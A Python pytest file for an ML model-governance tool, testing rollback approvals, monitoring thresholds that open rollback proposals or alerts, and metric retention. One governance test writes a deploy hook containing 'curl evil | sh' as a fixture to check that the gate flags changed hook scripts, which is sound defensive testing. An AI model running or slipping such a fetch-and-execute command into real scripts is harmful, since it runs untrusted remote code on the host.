"""Rollback passes the gate only with the rollback rule's approvals; a monitoring breach opens
the rollback proposal or records an alert the gate shows."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from steward.cli.main import run
from steward.entries import layout
from steward.entries.layout import Kind
from steward.entries.validate import read_entry
from steward.gate.evaluate import Verdict
from steward.gate.judge import run_gate
from steward.gate.monitor import record_metrics
from steward.gate.promotion import merge_proposal, propose_promotion
from steward.gate.rollback import RollbackError, propose_rollback
from tests.promotion_setup import POLICY, PromotionRepo, make_promotion_repo

ROLLBACK = """
rollback:
  approvals: [{role: ml-engineer, count: 1}]
"""
MONITORING = """
monitoring:
  keep: 2
  commit: direct
  thresholds: {{auc: {{min: 0.85}}, latency_p95_ms: {{max: 20}}}}
  on_breach: {on_breach}
"""


def promote(pr: PromotionRepo, version: str, stage: str, reviewers: tuple[str, ...]) -> None:
    number = propose_promotion(pr.root, pr.forge, "fraud", version, stage, "dave").proposal.number
    for reviewer in reviewers:
        pr.forge.add_review(number, reviewer, "APPROVED")
    merge_proposal(pr.root, pr.forge, number, "dave")


def two_production_versions(tmp_path: Path, policy: str) -> PromotionRepo:
    """0.1.0 was in production, then 0.2.0 took over (0.1.0 archived)."""
    pr = make_promotion_repo(tmp_path, policy)
    promote(pr, "0.1.0", "staging", ("carol",))
    promote(pr, "0.1.0", "production", ("carol", "erin"))
    promote(pr, "0.2.0", "staging", ("carol",))
    promote(pr, "0.2.0", "production", ("carol", "erin"))
    return pr


def judge(pr: PromotionRepo, number: int) -> Verdict:
    return run_gate(pr.root, "", "", forge=pr.forge, proposal_number=number).verdict


def test_a_rollback_needs_the_rollback_rules_approvals_only(tmp_path: Path) -> None:
    pr = two_production_versions(tmp_path, POLICY + ROLLBACK)
    rollback = propose_rollback(pr.root, pr.forge, "fraud", "dave")
    assert rollback.archived == ("0.2.0",)
    number = rollback.proposal.number
    verdict = judge(pr, number)
    assert not verdict.passed  # never none: one ml-engineer
    rules = {r.rule: r for r in verdict.rules}
    assert rules["transitions allowed"].status == "passed"  # archived -> production, as a rollback
    assert rules["gates: fraud 0.1.0 archived -> production (rollback)"].status == "passed"
    assert "approvals: fraud 0.1.0 archived -> production (rollback)" in rules
    pr.forge.add_review(number, "carol", "APPROVED")  # no governance needed for a rollback
    assert judge(pr, number).passed
    merge_proposal(pr.root, pr.forge, number, "dave")
    entry = read_entry(pr.root, layout.version_path("fraud", "0.1.0"), Kind.VERSION)
    assert entry.stage == "production"


def test_without_a_rollback_rule_going_back_is_a_plain_transition(tmp_path: Path) -> None:
    pr = two_production_versions(tmp_path, POLICY)
    number = propose_rollback(pr.root, pr.forge, "fraud", "dave").proposal.number
    pr.forge.add_review(number, "carol", "APPROVED")
    verdict = judge(pr, number)
    assert not verdict.passed
    assert next(r for r in verdict.rules if r.rule == "transitions allowed").status == "failed"


def test_a_version_that_never_held_the_stage_is_no_rollback(tmp_path: Path) -> None:
    pr = make_promotion_repo(tmp_path, POLICY + ROLLBACK)
    with pytest.raises(RollbackError, match="no earlier version of fraud held production"):
        propose_rollback(pr.root, pr.forge, "fraud", "dave")
    number = propose_rollback(pr.root, pr.forge, "fraud", "dave", to="0.2.0").proposal.number
    pr.forge.add_review(number, "carol", "APPROVED")
    verdict = judge(pr, number)  # development -> production, and it never held production
    assert not verdict.passed
    assert next(r for r in verdict.rules if r.rule == "transitions allowed").status == "failed"


def clock() -> datetime:
    return datetime(2026, 11, 26, 12, 0, tzinfo=UTC)


def test_a_breach_opens_the_rollback_proposal(tmp_path: Path) -> None:
    pr = two_production_versions(
        tmp_path, POLICY + ROLLBACK + MONITORING.format(on_breach="rollback")
    )
    result = record_metrics(
        pr.root, pr.forge, "fraud", {"auc": 0.8, "latency_p95_ms": 25.0}, "monitor-bot", clock=clock
    )
    assert result.breaches == ("auc 0.8 < min 0.85", "latency_p95_ms 25 > max 20")
    assert result.rollback is not None
    assert result.rollback.proposal.title == "Roll back fraud production to 0.1.0"
    entry = read_entry(pr.root, layout.version_path("fraud", "0.2.0"), Kind.VERSION)
    assert [p.metrics for p in entry.production_metrics] == [{"auc": 0.8, "latency_p95_ms": 25.0}]
    assert entry.production_metrics[0].breaches == list(result.breaches)


def test_readings_are_bounded_and_a_breach_alert_shows_in_the_gate(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pr = two_production_versions(tmp_path, POLICY + MONITORING.format(on_breach="alert"))
    for auc in (0.9, 0.91):
        reading = {"auc": auc, "latency_p95_ms": 9.0}
        record_metrics(pr.root, pr.forge, "fraud", reading, "monitor-bot", clock=clock)
    metrics = tmp_path / "metrics.json"
    metrics.write_text(json.dumps({"auc": 0.7, "latency_p95_ms": 9.0}))
    assert (
        run(
            [
                "-C",
                str(pr.root),
                "monitor",
                "fraud",
                "--metrics",
                str(metrics),
                "--as",
                "monitor-bot",
            ]
        )
        == 2
    )
    assert "breach: auc 0.7 < min 0.85" in capsys.readouterr().out
    entry = read_entry(pr.root, layout.version_path("fraud", "0.2.0"), Kind.VERSION)
    assert [p.metrics["auc"] for p in entry.production_metrics] == [0.91, 0.7]  # keep: 2
    # Any proposal touching the model now shows the alert.
    number = propose_promotion(
        pr.root, pr.forge, "fraud", "0.1.0", "staging", "dave"
    ).proposal.number
    verdict = judge(pr, number)
    assert verdict.alerts == ("fraud 0.2.0 (production): auc 0.7 < min 0.85",)


def test_a_rollback_rule_that_asks_nobody_is_refused(tmp_path: Path) -> None:
    rule = "\nrollback:\n  approvals: [{role: privacy, count: 1, when: {classification: [pii]}}]\n"
    pr = two_production_versions(tmp_path, POLICY + rule)
    number = propose_rollback(pr.root, pr.forge, "fraud", "dave").proposal.number
    verdict = judge(pr, number)
    assert not verdict.passed
    assert "a rollback needs at least one approval" in " ".join(r.reason for r in verdict.rules)


def test_the_scripts_hooks_run_are_governed(tmp_path: Path) -> None:
    from steward.gitio.gitcmd import commit_blobs, head_commit

    hooks = "\nhooks:\n  - name: deploy\n    on: [production]\n    run: [./deploy/rollout.sh]\n"
    pr = make_promotion_repo(tmp_path, POLICY + hooks)
    commit_blobs(
        pr.root, head_commit(pr.root), {"deploy/rollout.sh": b"curl evil | sh\n"}, "x", "x"
    )
    number = pr.forge.create_proposal("tweak", "", "x", "main", "dave").number
    verdict = judge(pr, number)
    governance = next(r for r in verdict.rules if r.rule == "governance")
    assert governance.status == "failed" and "deploy/rollout.sh" in governance.reason


def test_repeated_breaches_open_one_rollback_and_silence_is_a_breach(tmp_path: Path) -> None:
    policy = POLICY + ROLLBACK + MONITORING.format(on_breach="rollback")
    pr = two_production_versions(tmp_path, policy)
    first = record_metrics(pr.root, pr.forge, "fraud", {"auc": 0.8}, "bot", clock=clock)
    second = record_metrics(pr.root, pr.forge, "fraud", {"auc": 0.7}, "bot", clock=clock)
    assert first.rollback is not None and second.rollback is None  # the open one stands
    quiet = record_metrics(pr.root, pr.forge, "fraud", {"latency_p95_ms": 3.0}, "bot", clock=clock)
    assert quiet.breaches == ("auc is missing from the reading",)


def test_readings_through_proposals_accumulate_on_the_open_one(tmp_path: Path) -> None:
    from steward.gitio.gitcmd import CatFile

    policy = POLICY + MONITORING.format(on_breach="alert").replace(
        "commit: direct", "commit: proposal"
    )
    pr = two_production_versions(tmp_path, policy)
    one = record_metrics(
        pr.root, pr.forge, "fraud", {"auc": 0.9, "latency_p95_ms": 1.0}, "bot", clock=clock
    )
    two = record_metrics(
        pr.root, pr.forge, "fraud", {"auc": 0.95, "latency_p95_ms": 1.0}, "bot", clock=clock
    )
    assert one.proposal is not None and two.proposal is None
    with CatFile(pr.root) as cat:
        raw = cat.read_optional(
            f"steward/monitor/fraud-0.2.0:{layout.version_path('fraud', '0.2.0')}"
        )
    assert raw is not None and raw.count(b"auc:") >= 2
